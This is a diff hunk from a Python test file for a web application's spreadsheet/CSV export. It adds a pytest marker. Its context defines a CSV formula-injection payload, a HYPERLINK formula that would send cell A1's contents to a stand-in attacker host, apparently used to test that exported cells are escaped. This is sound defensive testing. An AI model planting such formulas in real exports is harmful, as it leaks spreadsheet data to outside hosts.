@@ -24,6 +24,8 @@ from musrenbang.http.rkpd_files import FORMULA_START, spreadsheet_cell
 from tests.http.test_staff import PASSWORD, add_user
 from tests.rkpd_site import YEAR, Site, rkpd_site
 
+pytestmark = pytest.mark.edge  # the HTTP edge: the same on every PostgreSQL (.ci/run)
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 TEXT_COLUMNS = ("Program", "Kegiatan", "Sub Kegiatan", "Indikator Keluaran", "Satuan Target", "Satuan Volume")
 """The line's own texts in the CSV."""
